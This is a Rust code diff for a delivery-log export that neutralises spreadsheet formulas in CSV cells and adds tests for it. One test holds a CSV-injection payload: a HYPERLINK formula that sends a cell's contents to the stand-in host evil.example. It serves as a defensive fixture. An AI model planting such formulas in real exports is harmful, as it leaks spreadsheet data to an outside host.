@@ -50,17 +50,33 @@ pub fn write_lines(
         }
         ExportFormat::Csv => {
             let mut csv = csv::Writer::from_writer(out);
+            csv.write_record(HEADER)?;
             for line in lines {
-                csv.serialize(line)?;
-            }
-            if lines.is_empty() {
-                // serde writes the header with the first row; an empty batch still gets one.
-                csv.write_record(HEADER)?;
+                csv.write_record(csv_row(line)?)?;
             }
             csv.flush()?;
         }
     }
     Ok(())
+}
+
+/// One line's cells in [`HEADER`] order, text neutralised for spreadsheets (a remote
+/// server's answer, a recipient's name: see `hillpost_core::csv_cell`). The JSON Lines
+/// export keeps every value as it is.
+fn csv_row(line: &ExportLine) -> Result<Vec<String>, ExportError> {
+    let serde_json::Value::Object(fields) = serde_json::to_value(line)? else {
+        return Ok(Vec::new());
+    };
+    Ok(HEADER
+        .iter()
+        .map(|name| match fields.get(*name) {
+            Some(serde_json::Value::String(text)) => {
+                hillpost_core::csv_cell::neutralise(text).into_owned()
+            }
+            Some(serde_json::Value::Null) | None => String::new(),
+            Some(other) => other.to_string(),
+        })
+        .collect())
 }
 
 const HEADER: &[&str] = &[
@@ -89,3 +105,75 @@ const HEADER: &[&str] = &[
     "event",
     "evidence_sha256",
 ];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn line(remote_text: &str) -> ExportLine {
+        ExportLine {
+            record: "attempt",
+            batch_id: 1,
+            delivery_id: 2,
+            recipient_key: "staff".into(),
+            recipient_name: "@Committee staff".into(),
+            channel: "email".into(),
+            endpoint: "staff@example.org".into(),
+            signer_id: Some(3),
+            signature_count: None,
+            delivery_state: "delivered".into(),
+            skip_reason: None,
+            attempt_no: Some(1),
+            started_at: None,
+            finished_at: None,
+            outcome: Some("ok".into()),
+            remote_code: Some(250),
+            remote_text: Some(remote_text.into()),
+            sent_sha256: None,
+            note: None,
+            evidence_sha256: None,
+            event_kind: None,
+            event_at: None,
+            event_actor: None,
+            event: None,
+        }
+    }
+
+    #[test]
+    fn csv_cells_cannot_run_as_formulas_and_json_keeps_the_original() {
+        let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Click\")";
+        let mut csv = Vec::new();
+        write_lines(&mut csv, &[line(formula)], ExportFormat::Csv).unwrap();
+        let csv = String::from_utf8(csv).unwrap();
+        let mut rows = csv::Reader::from_reader(csv.as_bytes());
+        let headers = rows.headers().unwrap().clone();
+        assert_eq!(headers.iter().collect::<Vec<_>>(), HEADER);
+        let row = rows.records().next().unwrap().unwrap();
+        let cell = |name: &str| {
+            let at = HEADER.iter().position(|h| *h == name).expect("a column");
+            row[at].to_string()
+        };
+        assert_eq!(cell("remote_text"), format!("'{formula}"));
+        assert_eq!(cell("recipient_name"), "'@Committee staff");
+        assert_eq!(cell("remote_code"), "250");
+        assert_eq!(cell("skip_reason"), "", "an absent value is an empty cell");
+
+        let mut jsonl = Vec::new();
+        write_lines(&mut jsonl, &[line(formula)], ExportFormat::Jsonl).unwrap();
+        let value: serde_json::Value = serde_json::from_slice(&jsonl).unwrap();
+        assert_eq!(value["remote_text"], formula);
+    }
+
+    #[test]
+    fn the_csv_header_names_every_field_of_a_line() {
+        let serde_json::Value::Object(fields) = serde_json::to_value(line("x")).unwrap() else {
+            panic!("a line is an object");
+        };
+        let names: Vec<&str> = fields.keys().map(String::as_str).collect();
+        let mut header = HEADER.to_vec();
+        header.sort_unstable();
+        let mut names = names;
+        names.sort_unstable();
+        assert_eq!(names, header);
+    }
+}
